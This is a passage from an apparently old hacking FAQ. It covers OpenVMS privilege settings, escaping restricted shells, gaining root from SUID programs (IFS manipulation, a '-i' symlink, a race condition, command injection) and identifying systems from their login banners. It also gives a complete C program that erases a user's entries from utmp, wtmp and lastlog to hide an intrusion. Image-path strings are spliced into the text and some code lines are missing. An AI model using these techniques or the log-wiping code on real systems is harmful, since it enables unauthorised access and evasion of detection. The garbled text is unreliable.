The /EXECUTIVE is important. This makes it into a trusted logical name
which is used by the OpenVMS operating system. If this isn't set as
/EXECUTIVE, then OpenVMS will NOT use the new definition.
If the logical name SYSUAF does not exist, then AUTHORIZE looks in the
current default directory for the file. If the file does not exist, it
then asks you whether or not you wish to create it. H.]

Under authorize you can also set /priv and /defpr to ALL for everything
or NONE for no privs. You can cancel any particular priv. by adding "no"
in front of the priv (e.g. $ authorize joeblow/defpriv=nobypass).

[Note from jaxom: There is a difference between /DEFPRIVILEGE and
/PRIVILEGE. If a users privileges are set /DEFPRIVILEGE, those are the
privileges that you have when you log in. The privileges defined through/PRIVILEGE are those marked as "authorised" in the $ SHOW PROCESS
/PRIVILEGE display. Note that granting a privilege in "authorised" is
NOT the same as granting a "default" privilege. You will have to use $
SET PROCESS /PRIVILEGE=foo, or replace foo with ALL.

For more information on OpenVMS, look at the online OpenVMS
documentation set at:
The most important documents are the OpenVMS Users Guide, the OpenVMS
Guide to System Security and the Systems Managers manuals (there are
two). Read the User Guide to get the basic OpenVMS concepts and then go
onto the other two to find out how OpenVMS and VMSclusters work. Since
Digital (now Compaq) has started the OpenVMS Hobbyist program, you can
get a free copy of OpenVMS as long as you have a supported VAX or Alpha
CPU and you are a member of DECUS. Check out:
for more details.
To get a good sense of OpenVMS, check out thefollowing:
        comp.os.vms                     OpenVMS newsgroup
        comp.sys.dec                    DEC (VAX and Alpha) hardware
        vmsnet.*                        Everything to do with OpenVMS
   Websites:  DEC's OpenVMS website     Arne Vajhoej's collection
                                        of OpenVMS resources.] H.]

To determine what privileges your process is running with issue the

$ show proc/priv


A-13. How do I break out of a restrictive shell?

A restrictive shell is a shell that has been modified to allow you to do
fewer things than a normal shell would allow you to do.  It may allow
you to run only certain programs.  It may stop you from changing
directories.  Many sites run their own restrictive shells to allow
limited use of their systems over the Internet.  Restrictive shells
often make use of the restricted shell (rsh).

On poorly implemented restricted shells you can break out of the
restricted environment by running a program that features a shell
function.  A good example is vi.  Run vi and use this command::set shell=/bin/sh

then shell using this command:


Many menu based restricted shells will allow you to configure your user
environment, or to run programs that allow you to configure your user
environment.  Look for configuration options that refer to executable
programs.  If the program lets you define an editor, for example, try to
set your editor to "/bin/csh -i -f"

If you are not allowed to read files, try to open them inside the e-
mail program.

If you are not allowed to edit files, try to save that to file from the
e-mail program.

If your restricted shell prevents you from using the "cd" command, try
to FTP into your account and change directories.  FTP can aso be used to
edit files by getting the file, editing it offline, and utting the net
file back online.

Like most hacking, trying things is oftenthe most successful strategy.


A-14. How do I gain root from a SUID script or program?

1. Change IFS.

If the program calls any other programs using the system() function
call, you may be able to fool it by changing IFS.  IFS is the Internal
Field Separator that the shell uses to delimit arguments.

If the program contains a line that looks like this:


and you change IFS to '/' the shell will them interpret the
proceeding line as:

bin date

Now, if you have a program of your own in the path called "bin" the
suid program will run your program instead of /bin/date.

To change IFS, use this command:

IFS='/';export IFS      # Bourne Shell
setenv IFS '/'          # C Shell
export IFS='/'          # Korn Shell2. link the script to -i

Create a symbolic link named "-i" to the program.  Running "-i"
will cause the interpreter shell (/bin/sh) to start up in interactive
mode.  This only works on suid shell scripts.


% ln -i
% -i

3. Exploit a race condition

Replace a symbolic link to the program with another program while the
kernel is loading /bin/sh.


nice -19 suidprog ; ln -s evilprog suidroot

4. Send bad input to the program.

Invoke the name of the program and a separate command on the samecommand line.


suidprog ; id


A-15. How do I erase my presence from the system logs?

Edit utmp (usually /etc/utmp), wtmp (usually /usr/adm/wtmp), and lastlog
(usually /usr/adm/lastlog)  These are not text files that can be edited
by hand with vi, you must use a program specifically written for this#include <sys/types.h>
#include <stdio.h>
#include <unistd.h>
#include <sys/file.h>
#include<fcntl.h>
#include <utmp.h>
#include <pwd.h>
#include <lastlog.h>
#define WTMP_NAME "/usr/adm/wtmp"
#define UTMP_NAME "/etc/utmp"
#define LASTLOG_NAME "/usr/adm/lastlog"

int f;

void kill_utmp(who)
char *who;
    struct utmp utmp_ent;

  if ((f=open(UTMP_NAME,O_RDWR))>=0) {
     while(read (f, &utmp_ent, sizeof (utmp_ent))> 0 )
       if (!strncmp(utmp_ent.ut_name,who,strlen(who))) {
                 bzero((char *)&utmp_ent,sizeof( utmp_ent ));
                 lseek (f, -(sizeof (utmp_ent)), SEEK_CUR);
                 write (f, &utmp_ent, sizeof (utmp_ent));

void kill_wtmp(who)
char *who;
    struct utmp utmp_ent;
    long pos;pos = 1L;
    if ((f=open(WTMP_NAME,O_RDWR))>=0) {

     while(pos != -1L) {
        lseek(f,-(long)( (sizeof(struct utmp)) * pos),L_XTND);
        if (read (f, &utmp_ent, sizeof (struct utmp))<0) {
          pos = -1L;
        } else {
          if (!strncmp(utmp_ent.ut_name,who,strlen(who))) {
               bzero((char *)&utmp_ent,sizeof(struct utmp ));
               lseek(f,-( (sizeof(struct utmp)) * pos),L_XTND);
               write (f, &utmp_ent, sizeof (utmp_ent));
               pos = -1L;
          } else pos += 1L;

void kill_lastlog(who)
char *who;
    struct passwd *pwd;
    struct lastlog newll;

     if ((pwd=getpwnam(who))!=NULL) {

        if ((f=open(LASTLOG_NAME, O_RDWR)) >= 0) {
            lseek(f, (long)pwd->pw_uid * sizeof (struct lastlog), 0);
            bzero((char *)&newll,sizeof( newll ));
            write(f, (char *)&newll, sizeof( newll ));

    } else printf("%s: ?\n",who);

int argc;
char *argv[];
    if (argc==2) {
    } else


A-16. How do I change to directories with strange characters in them?

These directories are often used by people trying to hide information,most often warez (commercial software).

There are several things you can do to determine what these strange
characters are.  One is to use the arguments to the ls command that
cause ls to give you more information:

From the man page for ls:

    -F   Causes directories to be marked with a trailing ``/'',
         executable files to be marked with a trailing ``*'', and
         symbolic links to be marked with a trailing ``@'' symbol.

    -q   Forces printing of non-graphic characters in filenames as the
         character ``?''.

    -b   Forces printing of non-graphic characters in the \ddd
         notation, in octal.

Perhaps the most useful tool is to simply do an "ls -al filename" tosave the directory of the remote ftp site as a file on your local
machine.  Then you can do a "cat -t -v -e filename" to see exactly
what those bizarre little characters are.

From the man page for cat:

    -v  Causes non-printing characters (with the exception of tabs,
        newlines, and form feeds) to be displayed.  Control characters
        are displayed as ^X (<Ctrl>x), where X is the key pressed with
        the <Ctrl> key (for example, <Ctrl>m is displayed as ^M).  The
        <Del> character (octal 0177) is printed as ^?.  Non-ASCII
        characters (with the high bit set) are printed as M -x, where
        x is the character specified by the seven low order bits.

    -t  Causes tabs to be printed as ^I and form feeds as ^L.  This
        option is ignored if the -v option is not specified.

    -e  Causes a ``$'' character to be printed at the end of each line
        (prior to the new-line).  This option is ignored if the -v
        option is not set.

If the directory name includes a <SPACE> or a <TAB> you will need to
enclose the entire directory name in quotes.  Example:

cd "..<TAB>"

On an IBM-PC, you may enter these special characters by holding downthe <ALT> key and entering the decimal value of the special character
on your numeric keypad.  When you release the <ALT> key, the special
character should appear on your screen.  An ASCII chart can be very

Sometimes people will create directories with some of the standard
stty control characters in them, such as ^Z (suspend) or ^C (intr).
To get into those directories, you will first need to user stty to
change the control character in question to another character.

From the man page for stty:

    Control assignments

    control-character C
                      Sets control-character to C, where
                      control-character is erase, kill, intr
                      (interrupt), quit, eof, eol, swtch
                      (switch), start, stop or susp.

                      start and stop are available as possible control
                      characters for the control-character C

                      If C is preceded by a caret (^) (escaped from
                      shell),then the value used is the corresponding
                      control character (for example, ^D is a <Ctrl>d;
                      ^? is interpreted as DELETE and ^- is
                      as undefined).

Use the stty -a command to see your current stty settings, and to
determine which one is causing you problems.A-17. What is this system?

IBM AIX Version 3 for RISC System/6000
(C) Copyrights by IBM and by others 1982, 1990.

[You will know an AIX system because it is the only Unix system that]
[clears the screen and issues a login prompt near the bottom of the]


Once in, type GO MAIN

CDC Cyber

88/02/16. 02.36.53. N265100
CSUS CYBER 170-730.                     NOS 2.5.2-678/3.

You would normally just hit return at the family prompt.  Next prompt


CISCO Router
                             FIRST BANK OF TNO
                           95-866 TNO VirtualBank
                          REMOTE Router -  TN043R1

                                Console Port

                                SN - 00000866


DECserver 700-08 Communications Server V1.1(BL44G-11A) - LAT V5.1

(c) Copyright 1992, Digital Equipment Corporation - All Rights

Please type HELP if you need assistance

Enter username> TNO


Hewlett Packard MPE-XL







Lantronix Terminal Server
Lantronix ETS16 Version V3.1/1(940623)

Type HELP at the 'Local_15> ' prompt for assistance.

Login password>

Meridian Mail (Northern Telecom Phone/Voice Mail System)
                            MMM       MMMERIDIAN
                           MMMMM     MMMMM
                         MMMMMM   MMMMMM
